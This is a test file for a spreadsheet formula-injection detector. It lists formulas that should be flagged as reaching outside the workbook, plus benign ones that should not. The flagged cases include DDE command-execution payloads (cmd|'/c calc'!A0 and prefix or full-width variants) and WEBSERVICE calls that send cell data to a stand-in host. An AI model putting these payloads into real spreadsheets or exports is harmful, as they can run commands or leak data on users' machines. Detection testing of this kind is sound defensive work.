/** Formulas that reach outside the workbook: one rule for templates and paste. */
import { findOutsideAccess, findOutsideAccessAsTyped } from "../../src/formula/outside-access";

test.each([
  '=IMAGE("http://x/a.png")',
  '=_xlfn._xlws.WEBSERVICE("http://x/"&A1)',
  "=MAP(A1:A9,WEBSERVICE)",
  '=LET(webservice,1,WEBSERVICE("http://x"))',
  '=HYPERLINK("http://x","here")',
  "=CONTOSO.GET(A1)",
  "=MAP(A1:A9,CONTOSO.GET)",
  "=MYUDF(A1)",
  "=SUM(cmd|'/c calc'!A0)",
  "='cmd|/c calc'!A0",
  "=[1]Plan!A1",
  "=[1]!Name",
  "=[x.xlsx]Plan!A1",
  "='C:\\[x.xlsx]Plan'!A1",
  "='https://x/[x.xlsx]Plan'!A1",
  "='x.xlsx'!Name",
  "=x.xlsm!Name",
  "=\\\\server\\share",
  '=INDIRECT("[x.xlsx]S!A1")',
  "='North|South'!A1",
  "=Stock(A1)+Q1.Total",
  '=INDIRECT("\'["&A1&"]S\'!A1")',
  '=SUM(1,INDIRECT(A1&".xlsx!B2"))',
  `=1${"+1".repeat(5_000)}`,
])("%s reaches outside", (formula) => {
  expect(findOutsideAccess(formula)).not.toBeNull();
});

test.each([
  '=IFNA(INV.QTY(A2,B2),"WEBSERVICE(1) | [x.xlsx]")',
  "=MAP(A1:A9,INV.QTY)",
  "=_xldudf_INV_QTY(A2,B2)",
  "=LET(f,LAMBDA(x,x+1),f(2))",
  "=NORM.S.INV(0.95)*STDEV.S(A1:A9)+CHIINV(0.5,1)",
  "=SUM(Items[Qty])+[@Store]+A1#+Jan:Dec!A1+'Jan 1:Feb 1'!A1",
  "='My sheet'!A1+Große!B2+Total",
  "=IF(A1=#N/A,{1,2;3,4},Plan!#REF!)",
  '=INDIRECT(A1&"!B2")+CELL("row",A1)',
])("%s stays inside", (formula) => {
  expect(findOutsideAccess(formula)).toBeNull();
});

test.each([
  "+cmd|' /C calc'!A0",
  "-cmd|' /C calc'!A0",
  "@SUM(cmd|'/c calc'!A0)",
  ' =WEBSERVICE("http://x")',
  "\t=MYUDF(1)",
  "\uff1dMYUDF(1)",
  "\uff0bcmd|' /C calc'!A0",
  "\uff0dcmd|' /C calc'!A0",
  "\uff20SUM(cmd|'/c calc'!A0)",
])("%s reaches outside where it is typed", (text) => expect(findOutsideAccessAsTyped(text)).not.toBeNull());

test.each([
  "- it's total (net)",
  "-5",
  "+41 79 123",
  "@home",
  "--",
  "cmd|' /C calc'!A0",
  "= ",
  " =A1+1",
  "-Total(net)",
])("%s does not", (text) => expect(findOutsideAccessAsTyped(text)).toBeNull());
